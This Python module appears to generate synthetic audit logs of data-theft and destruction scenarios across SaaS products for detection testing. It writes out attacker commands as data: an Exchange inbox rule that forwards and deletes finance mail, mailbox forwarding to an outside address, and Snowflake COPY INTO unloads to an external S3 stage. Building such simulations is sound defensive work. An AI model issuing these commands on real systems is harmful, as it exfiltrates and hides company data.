"""Attacks that take data away, or destroy it."""
from ..clock import HOUR, MINUTE
from ..products.google import text
from ..products.salesforce import REPORTS
from .attack import family

PRIVATE = ["{0}.private@mail.example", "{0}99@freemail.example", "backup.{0}@webmail.example"]


def own_address(a, person):
    """A mailbox outside that is plainly somebody's own."""
    return a.chance.choice(PRIVATE).format(person.local.split(".")[0])


def shelf(a, person, count):
    """So many documents of the person's department, those that are confidential first."""
    documents = a.company.shelves[person.department]
    secret = [document for document in documents if document.confidential]
    rest = [document for document in documents if not document.confidential]
    a.chance.shuffle(rest)
    return (secret + rest)[:count]


@family("mass_download", "T1530", "one account fetches many times as many files as it ever does")
def mass_download(a):
    person = a.victim(("google", "microsoft365", "google")[a.number % 3])
    a.begin(person)
    outside = a.number % 3 == 0
    p = a.intruder(person) if outside else a.insider(person)
    if outside:
        a.signed_in(p, a.start - 90, "Google Workspace")
    documents = shelf(a, person, a.chance.randrange(110, 480) if a.pace != "slow" else a.chance.randrange(200, 320))
    a.note = f"{len(documents)} files, {'by an intruder' if outside else 'by the person'}"
    for document, time in zip(documents, a.spread(len(documents), len(documents) * 2.2, 40 * HOUR)):
        if "microsoft365" in person.products:
            a.products.microsoft365.file(p, time, "FileDownloaded", document)
        else:
            a.products.google.drive(p, time, "download", document)


@family("mass_export", "T1213", "reports, mailboxes or spaces are exported whole")
def mass_export(a):
    kind = a.number % 3
    person = a.victim(("salesforce", "google", "atlassian")[kind])
    a.begin(person)
    p, products = a.insider(person) if kind else a.intruder(person), a.products
    if kind == 0:
        products.salesforce.login(p, a.start - 30)
        for name, time in zip(REPORTS, a.spread(len(REPORTS), 25 * MINUTE, 20 * HOUR)):
            products.salesforce.report(p, time, name, a.chance.randrange(20_000, 180_000), True)
        a.note = "ten reports of Salesforce, far larger than usual"
    elif kind == 1:
        products.google.takeout(p, a.start, ["drive", "mail", "contacts"])
        a.note = "Google Takeout of mail and files"
    else:
        for number, time in enumerate(a.spread(7, 40 * MINUTE, 30 * HOUR)):
            space = ("spaces", str(98_000 + number), {"name": f"Space {number}"})
            products.atlassian.record(p, time, "confluence_space_exported", [space])
        a.note = "seven spaces of Confluence"


@family("external_share", "T1537", "confidential files are shared with somebody's own mailbox outside")
def external_share(a):
    person = a.victim("microsoft365" if a.number % 3 == 1 else "google")
    a.begin(person)
    p, target = a.insider(person), own_address(a, person)
    a.also(target)
    documents = shelf(a, person, a.chance.randrange(3, 16))
    a.note = f"{len(documents)} files with {target}"
    for document, time in zip(documents, a.spread(len(documents), 15 * MINUTE, 30 * HOUR)):
        if "microsoft365" in person.products:
            a.products.microsoft365.share(p, time, document, target)
        else:
            a.products.google.share(p, time, document, target, "can_edit")


@family("public_link", "T1567.002", "links that anybody can open are made of confidential files, and opened from outside")
def public_link(a):
    person = a.victim(("google", "microsoft365", "slack")[a.number % 3])
    a.begin(person)
    p = a.insider(person)
    documents = shelf(a, person, a.chance.randrange(2, 9))
    a.note = f"{len(documents)} files"
    for document, time in zip(documents, a.spread(len(documents), 20 * MINUTE, 24 * HOUR)):
        if a.number % 3 == 0:
            a.products.google.link(p, time, document)
        elif a.number % 3 == 1:
            a.products.microsoft365.link(p, time, document)
        else:
            a.products.slack.file(p, time, "file_public_link_created", document)


@family("mail_forwarding", "T1114.003", "mail is sent on to an address outside, and the traces are hidden")
def mail_forwarding(a):
    kind = a.number % 3
    person = a.victim("google" if kind == 2 else "microsoft365")
    a.begin(person)
    p, target, products = a.intruder(person), f"inbox{a.chance.randrange(100, 999)}@mail.example", a.products
    a.also(target)
    if kind == 2:
        a.signed_in(p, a.start - 60, "Google Workspace")
        products.google.forwarding(p, a.start + 60, target)
        products.google.admin(p, a.start + HOUR, "EMAIL_SETTINGS", "EMAIL_LOG_SEARCH", text("EMAIL_LOG_SEARCH_FILTER", target))
        return
    products.entra.sign_in(p, a.start - 60, ("One Outlook Web", "Office 365 Exchange Online"))
    products.microsoft365.login(p, a.start - 58)
    if kind == 0:
        products.microsoft365.exchange(p, a.start + 60, "New-InboxRule", f"EXAMPLE\\{person.local}\\..", [
            ("AlwaysDeleteOutlookRulesBlob", "False"), ("Force", "False"), ("ForwardTo", target), ("Name", ".."),
            ("SubjectOrBodyContainsWords", "invoice;payment;bank"), ("DeleteMessage", "True"), ("StopProcessingRules", "True")])
    else:
        products.microsoft365.exchange(p, a.start + 60, "Set-Mailbox", person.email, [
            ("Identity", person.email), ("ForwardingSmtpAddress", f"smtp:{target}"), ("DeliverToMailboxAndForward", "True")])
    for time in a.spread(8, 30 * MINUTE, 20 * HOUR):
        products.microsoft365.mail(p, time + 200, 40, "Client=OWA;Action=ViaProxy", "Sync")


@family("repository_cloning", "T1213.003", "one account clones far more repositories than it works on")
def repository_cloning(a):
    person = a.victim("github", ["engineering", "data"])
    a.begin(person)
    outside = a.number % 3 == 0
    p, github = a.intruder(person) if outside else a.insider(person), a.products.github
    repositories = a.chance.sample(a.company.repositories, min(len(a.company.repositories) - 2, a.chance.randrange(35, 130)))
    token = github.token(person) if outside else None
    if outside:
        github.record(p, a.start - 120, "personal_access_token.create", token_id=token["id"])
    a.note = f"{len(repositories)} repositories, {'with a token that was made for it' if outside else 'before leaving'}"
    for number, (repository, time) in enumerate(zip(repositories, a.spread(len(repositories), len(repositories) * 7, 44 * HOUR))):
        if a.number % 3 == 1 and number % 4 == 3:
            github.record(p, time, "repo.download_zip", **github.of(repository))
        else:
            github.git(p, time, "git.clone", repository, token)


@family("warehouse_copy_out", "T1567.002", "tables are unloaded to a stage outside the company")
def warehouse_copy_out(a):
    person = a.victim("snowflake")
    a.begin(person)
    outside = a.number % 3 == 0
    p, snowflake = a.intruder(person) if outside else a.insider(person), a.products.snowflake
    snowflake.login(p, a.start - 20, factor="PASSWORD" if outside else "SAML2_ASSERTION", client=1)
    bucket = f"s3://{a.chance.choice(['archive', 'sync', 'temp'])}-{a.chance.hex(8)}.example.net/d/"
    role = a.chance.choice(["ANALYST", "SYSADMIN"])
    tables = a.chance.sample(a.company.tables, a.chance.randrange(4, 16))
    a.note = f"{len(tables)} tables to {bucket}"
    snowflake.query(p, a.start, "SHOW TABLES IN ACCOUNT", "SHOW", None, role, rows=len(a.company.tables))
    if a.number % 3 != 1:
        snowflake.query(p, a.start + 60, f"CREATE OR REPLACE TEMPORARY STAGE {tables[0][0]}.PUBLIC.TMP URL='{bucket}'", "CREATE_STAGE",
                        tables[0][0], role)
    for (database, table), time in zip(tables, a.spread(len(tables), 12 * MINUTE, 30 * HOUR)):
        target = f"'{bucket}{table}'" if a.number % 3 == 1 else f"@{tables[0][0]}.PUBLIC.TMP/{table}"
        snowflake.query(p, time + 120, f"COPY INTO {target} FROM {database}.PUBLIC.{table}", "UNLOAD", database, role,
                        unloaded=a.chance.randrange(60_000, 2_000_000))


@family("mass_delete", "T1485", "files, repositories or machines are deleted by the dozen")
def mass_delete(a):
    kind = a.number % 3
    person = a.victim(("google", "microsoft365", "aws_cloudtrail")[kind])
    a.begin(person)
    p, products = a.intruder(person) if kind == 0 else a.insider(person), a.products
    documents = shelf(a, person, a.chance.randrange(90, 340))
    a.note = f"{len(documents)} {'objects of a bucket' if kind == 2 else 'files'}"
    identity = products.aws.user(person)
    for number, (document, time) in enumerate(zip(documents, a.spread(len(documents), len(documents) * 1.5, 20 * HOUR))):
        if kind == 0:
            products.google.drive(p, time, "delete" if number % 3 else "trash", document)
        elif kind == 1:
            products.microsoft365.file(p, time, "FileDeleted" if number % 2 else "FileRecycled", document)
        else:
            products.aws.object(p, time, "DeleteObject", a.company.buckets[1], f"2026/{number}.parquet", identity)
